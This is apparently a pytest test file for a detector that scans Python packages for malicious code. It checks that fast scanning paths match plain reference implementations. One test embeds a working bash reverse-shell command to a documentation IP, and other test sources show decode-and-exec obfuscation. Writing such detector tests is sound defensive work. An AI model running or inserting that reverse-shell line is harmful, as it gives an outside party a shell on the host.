"""The cheap paths of the scanner give exactly what the plain ones gave: the reduced
node list, the bounded walk, one-pass character counts, local decoders found without
walking every function, an expression's kind by an inlined walk, and the collector
paused only for the analysis."""

from __future__ import annotations

import ast
import gc
import itertools

import pytest
from code_fixtures import BENIGN_PKG, MISS_HATCH_HOOK, MISS_SETUP_IMPORT

from detector.code import decode
from detector.code.analyze import (
    OPERATOR_CHARS,
    PARSE_UNIT_CHARS,
    analyze,
    operator_density,
    parse_units,
)
from detector.code.pyast import (
    NETWORK_PREFIX,
    READ,
    FileScan,
    collect_aliases,
    flatten,
    local_decoders,
    qualified,
    walk,
)
from detector.code.regex import encodable
from detector.code.textscan import scan_strings

SOURCES = [
    "import os\nx = os.system('id')\n",
    "from base64 import b64decode as d\n\ndef run(s):\n    return d(s)\n\nrun('aGk=')\n",
    "class A(B, metaclass=M):\n    x: int = 1\n    def f(self, *a, k=g(), **kw) -> h():\n"
    "        global q\n        return [i async for i in z if i] or {k: v for k, v in w}\n",
    "f'{a!r:>{w}}' + b'\\x00' + 'x' * 3; del a[1:2:-1]\nlambda: (yield)\n",
    "try:\n    pass\nexcept E as e:\n    raise X from e\nelse:\n    break\nfinally:\n"
    "    continue\nmatch p:\n    case [1, *r] | {'k': v, **kw} | C(a=1) as z if z:\n        ...\n",
    *[text for files in (BENIGN_PKG, MISS_SETUP_IMPORT, MISS_HATCH_HOOK)
      for name, text in files.items() if name.endswith(".py")],
]


def _reference(tree: ast.AST) -> list[ast.AST]:
    """What flatten must return: `ast.walk`'s breadth-first order, kinds in READ, text
    constants only."""
    return [n for n in ast.walk(tree) if type(n) in READ and not (
        type(n) is ast.Constant and not isinstance(n.value, str | bytes))]


@pytest.mark.parametrize("source", SOURCES)
def test_flatten_is_the_breadth_first_walk_restricted_to_what_passes_read(source):
    tree = ast.parse(source)
    assert [id(n) for n in flatten(tree)] == [id(n) for n in _reference(tree)]


@pytest.mark.parametrize(("source", "limit"),
                         list(itertools.product(SOURCES[:5], (0, 3, 40, 10**6))))
def test_bounded_walk_is_the_head_of_ast_walk(source, limit):
    tree = ast.parse(source)
    expected = list(itertools.islice(ast.walk(tree), limit + 1))
    assert [id(n) for n in walk(tree, limit)] == [id(n) for n in expected]


@pytest.mark.parametrize("text", ["", "x = (1 + 2) * [3]\n", "é(ü)=☃{}\n", "a\ud800(b)\n",
                                  "\n;,=()[]{}+-*/.:%<>^|&~" * 50])
def test_character_counts_match_str_count(text):
    assert parse_units(text) == sum(text.count(c) for c in PARSE_UNIT_CHARS)
    expected = sum(text.count(c) for c in OPERATOR_CHARS) / len(text) if text else 0.0
    assert operator_density(text) == pytest.approx(expected)


@pytest.mark.parametrize(("source", "expected"), [
    ("import base64\ndef d(s):\n    return base64.b64decode(s).decode()\n", {"d": "b64decode"}),
    ("from zlib import decompress as z\nasync def u(a, b):\n    return z(b)\n",
     {"u": "decompress"}),
    # a decoder called on something other than a parameter, or no decoder at all
    ("import base64\nK = 'aGk='\ndef d(s):\n    return base64.b64decode(K)\n", {}),
    ("def d(s):\n    return s.upper()\n", {}),
])
def test_local_decoders(source, expected):
    nodes = flatten(ast.parse(source))
    assert local_decoders(nodes, collect_aliases(nodes)) == expected


@pytest.mark.parametrize("enabled", [True, False])
def test_collector_is_paused_during_analysis_and_restored(enabled, monkeypatch):
    seen = []
    import detector.code.analyze as analyze_mod

    real = analyze_mod.local_names

    def spy(files):
        seen.append(gc.isenabled())
        return real(files)

    monkeypatch.setattr(analyze_mod, "local_names", spy)
    (gc.enable if enabled else gc.disable)()
    try:
        analyze(dict(MISS_SETUP_IMPORT))
        assert seen == [False]
        assert gc.isenabled() is enabled
    finally:
        gc.enable()


def _plain_kind(scan: FileScan, node: ast.AST, limit: int) -> str:
    """The generic version `FileScan._walked_kind` replaces: `isinstance` tests on each
    node of the bounded walk."""
    kind = "dynamic"
    for sub in walk(node, limit):
        if isinstance(sub, ast.Name) and sub.id in scan.tainted:
            return scan.tainted[sub.id]
        if isinstance(sub, ast.Subscript) and isinstance(sub.slice, ast.Slice) and \
                isinstance(sub.slice.step, ast.UnaryOp):
            return "decode"
        if isinstance(sub, ast.Call):
            name = qualified(sub.func, scan.aliases) or ""
            last = name.rsplit(".", 1)[-1]
            if name.startswith(NETWORK_PREFIX) or last in ("urlopen", "urlretrieve"):
                return "net"
            if last in decode.DECODE_NAMES or name in scan.folder.decoders or \
                    name.startswith(("marshal.", "zlib.", "lzma.", "bz2.", "codecs.")):
                return "decode"
            if last == "chr" or (last == "join" and "chr" in scan.source(sub)):
                return "decode"
            if last in ("open", "read", "read_text"):
                kind = "local-file"
    return kind


KIND_SOURCES = [
    *SOURCES,
    # every answer, each behind the others in breadth-first order, and cut by the limit
    "import base64, urllib.request as u, marshal\nt = base64.b64decode('aGk=')\n"
    "x = f(open(p).read(), g(t), u.urlopen(h))\ny = a[::-1] + ''.join(chr(c) for c in z)\n"
    "w = [[[[marshal.loads(b)]]], requests.get(q), t, p.read_text()]\n"
    "v = {k: (lambda: zlib.decompress(k))() for k in open('f')}\n",
    "out = ''\nfor c in s:\n    out += chr(ord(c) ^ 3)\nr = exec(out)\n",
]


@pytest.mark.parametrize("source", KIND_SOURCES)
def test_inlined_kind_walk_matches_the_plain_walk(source):
    nodes = flatten(ast.parse(source))
    scan = FileScan("x.py", nodes, "install", lambda text, line: [])
    scan.tainted.update({"t": "decode", "z": "net"})
    expressions = [n for n in ast.walk(ast.parse(source)) if isinstance(n, ast.expr)]
    answers = set()
    for node in expressions:
        for limit in (0, 1, 2, 5, 12, 5000):
            expected = _plain_kind(scan, node, limit)
            assert scan._walked_kind(node, limit) == expected
            answers.add(expected)
    if source in KIND_SOURCES[-2:]:  # the tricky cases reach the answers they test
        assert {"decode", "dynamic"} <= answers
    if source == KIND_SOURCES[-2]:
        assert {"net", "local-file"} <= answers


def test_string_scan_replaces_lone_surrogates_once_with_the_same_findings():
    shell = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"
    strings = [(1, "a\ud800b"), (2, "\udfff" + shell), (3, "plain text here"),
               (4, "x\ud83d\ude00" + shell), (5, shell)]
    found = scan_strings("s.py", "install", strings, 10_000, 10)
    replaced = scan_strings("s.py", "install", [(n, encodable(t)) for n, t in strings],
                            10_000, 10)
    assert [f.to_dict() for f in found] == [f.to_dict() for f in replaced]
    assert {f.line for f in found if f.rule == "reverse-shell"} == {2, 4, 5}
